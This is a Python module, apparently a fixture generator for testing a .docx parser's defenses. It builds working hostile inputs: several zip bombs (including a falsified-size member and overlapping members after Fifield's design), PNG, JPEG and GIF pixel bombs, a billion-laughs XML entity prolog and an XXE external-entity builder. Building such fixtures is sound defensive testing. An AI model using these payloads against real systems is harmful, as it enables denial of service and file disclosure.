"""Turn attack recipes into bytes: .docx packages, zip and XML bombs, pixel bombs, overlaps."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_PKG_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL}">'
    f'<Relationship Id="rId1" Type="{RT}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def document_xml(body: str, *, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f"<w:body>{body}</w:body></w:document>"
    )


def rels_xml(rels: Mapping[str, tuple[str, str, bool]]) -> str:
    """Relationships by id: (type's last segment, target, external)."""
    items = "".join(
        f'<Relationship Id="{rid}" Type="{RT}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, (kind, target, external) in rels.items()
    )
    head = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL}">'
    return f"{head}{items}</Relationships>"


def docx(
    body: str = "",
    *,
    document: str | None = None,
    rels: Mapping[str, tuple[str, str, bool]] | None = None,
    parts: Mapping[str, bytes | str] | None = None,
) -> bytes:
    """A small .docx whose document body is ``body`` (or the whole ``document`` part)."""
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _PKG_RELS,
        "word/document.xml": document if document is not None else document_xml(body),
    }
    if rels:
        files["word/_rels/document.xml.rels"] = rels_xml(rels)
    files.update(parts or {})
    return zip_of(files)


def zip_of(files: Mapping[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


def inline_picture(rid: str, *, link: bool = False) -> str:
    attr = f'r:link="{rid}"' if link else f'r:embed="{rid}"'
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/>'
        '<wp:docPr id="1" name="p" descr="圖"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        f"<pic:blipFill><a:blip {attr}/></pic:blipFill></pic:pic></a:graphicData></a:graphic>"
        "</wp:inline></w:drawing></w:r></w:p>"
    )


# ---------------------------------------------------------------- zip bombs


def zeros_member(name: str, size: int) -> bytes:
    """A zip whose member ``name`` unpacks to ``size`` zero bytes (streamed, ratio ~1000:1)."""
    buf = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _PKG_RELS)
        if name != "word/document.xml":
            z.writestr("word/document.xml", document_xml(para("bomb")))
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            left = size
            while left:
                fh.write(chunk[: min(left, len(chunk))])
                left -= min(left, len(chunk))
    return buf.getvalue()


def many_members(count: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _PKG_RELS)
        z.writestr("word/document.xml", document_xml(para("x")))
        for i in range(count):
            z.writestr(f"m/{i}", b"")
    return buf.getvalue()


def lying_sizes() -> bytes:
    """A document part that declares 100 bytes and inflates to 50 MB."""
    data = bytearray(docx(para("short")))
    real = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = real.compress(b"<" * (50 << 20)) + real.flush()
    return _replace_member(bytes(data), "word/document.xml", bomb, declared=100)


def _replace_member(data: bytes, name: str, compressed: bytes, declared: int) -> bytes:
    """Rebuild a zip, putting raw ``compressed`` bytes and a false size under ``name``."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    central = []
    for info in src.infolist():
        raw = compressed if info.filename == name else _raw(data, info)
        size = declared if info.filename == name else info.file_size
        crc = 0 if info.filename == name else info.CRC
        central.append((info.filename.encode(), out.tell(), len(raw), size, crc))
        out.write(_local(info.filename.encode(), len(raw), size, crc) + raw)
    return _finish_mixed(out, central)


def _raw(data: bytes, info: zipfile.ZipInfo) -> bytes:
    start = info.header_offset
    n, m = struct.unpack("<HH", data[start + 26 : start + 30])
    begin = start + 30 + n + m
    return data[begin : begin + info.compress_size]


def _local(name: bytes, csize: int, size: int, crc: int, method: int = 8) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, csize, size,
                       len(name), 0) + name  # fmt: skip


def overlapping(*, quoted: bool) -> bytes:
    """A valid-looking .docx plus members whose data overlap another member's.

    ``quoted``: member B's local header lies inside member A's (stored) data, as in
    Fifield's non-recursive zip bomb; otherwise two directory entries share one header.
    """
    base = zipfile.ZipFile(io.BytesIO(docx(para("overlap"))))
    out = io.BytesIO()
    central: list[tuple[bytes, int, int, int, int]] = []
    for info in base.infolist():
        raw = zlib.compress(base.read(info))[2:-4]
        central.append((info.filename.encode(), out.tell(), len(raw), info.file_size,
                        info.CRC))  # fmt: skip
        out.write(_local(info.filename.encode(), len(raw), info.file_size, info.CRC) + raw)
    payload = b"x" * 4096
    inner_name = b"word/media/b.bin"
    inner = _local(inner_name, len(payload), len(payload), zlib.crc32(payload), 0) + payload
    if quoted:
        outer_name = b"word/media/a.bin"
        a_offset = out.tell()
        out.write(_local(outer_name, len(inner), len(inner), zlib.crc32(inner), 0) + inner)
        b_offset = a_offset + 30 + len(outer_name)
        central.append((outer_name, a_offset, len(inner), len(inner), zlib.crc32(inner)))
    else:
        b_offset = out.tell()
        out.write(inner)
        central.append((b"word/media/c.bin", b_offset, len(payload), len(payload),
                        zlib.crc32(payload)))  # fmt: skip
    central.append((inner_name, b_offset, len(payload), len(payload), zlib.crc32(payload)))
    return _finish_mixed(out, central)


def _finish_mixed(out: io.BytesIO, central: list[tuple[bytes, int, int, int, int]]) -> bytes:
    """The directory, with each entry's method taken from its local header."""
    data = out.getvalue()
    start = len(data)
    for name, offset, csize, size, crc in central:
        (method,) = struct.unpack("<H", data[offset + 8 : offset + 10])
        out.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, csize,
                              size, len(name), 0, 0, 0, 0, 0, offset) + name)  # fmt: skip
    end = out.tell()
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          end - start, start, 0))  # fmt: skip
    return out.getvalue()


# ------------------------------------------------------------- pixel bombs


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG header for a huge image, with only the first rows of data (all zeros)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(width + 1) * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
    )


def jpeg_bomb(width: int = 65_000, height: int = 65_000) -> bytes:
    sof = struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + b"\xff\xc0" + sof + b"\xff\xd9"


def gif_bomb(width: int = 65_535, height: int = 65_535) -> bytes:
    screen = struct.pack("<HHBBB", width, height, 0, 0, 0)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + frame + b"\x3b"


# ---------------------------------------------------------------- XML bombs

BILLION_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def external_entity(url: str) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{url}">]>'


def huge_member(name: str, megabytes: int) -> bytes:
    """A .docx with a member inflating to ``megabytes`` MB of zeros (at most 4095), built fast.

    The deflate stream is one fully flushed 1 MB block repeated: each copy stands alone.
    """
    base = zipfile.ZipFile(io.BytesIO(docx(para("bomb"))))
    out = io.BytesIO()
    central: list[tuple[bytes, int, int, int, int]] = []
    for info in base.infolist():
        raw = zlib.compress(base.read(info))[2:-4]
        central.append((info.filename.encode(), out.tell(), len(raw), info.file_size, info.CRC))
        out.write(_local(info.filename.encode(), len(raw), info.file_size, info.CRC) + raw)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(bytes(1 << 20)) + co.flush(zlib.Z_FULL_FLUSH)
    stream = block * megabytes + co.flush(zlib.Z_FINISH)
    size = min(megabytes << 20, 0xFFFFFFFE)
    central.append((name.encode(), out.tell(), len(stream), size, 0))
    out.write(_local(name.encode(), len(stream), size, 0) + stream)
    return _finish_mixed(out, central)


def duplicate_names() -> bytes:
    """A .docx holding two ``word/document.xml``: which one a reader takes is ambiguous."""
    buf = io.BytesIO(docx(para("first")))
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "a") as z:
        warnings.simplefilter("ignore")
        z.writestr("word/document.xml", document_xml(para("second")))
    return buf.getvalue()


def unsupported_method(data: bytes, method: int = 99) -> bytes:
    """The same zip with every member claiming a compression method zipfile cannot unpack."""
    out = bytearray(data)
    for info in zipfile.ZipFile(io.BytesIO(data)).infolist():
        struct.pack_into("<H", out, info.header_offset + 8, method)
    i = 0
    while (i := out.find(b"PK\x01\x02", i)) >= 0:
        struct.pack_into("<H", out, i + 10, method)
        i += 4
    return bytes(out)
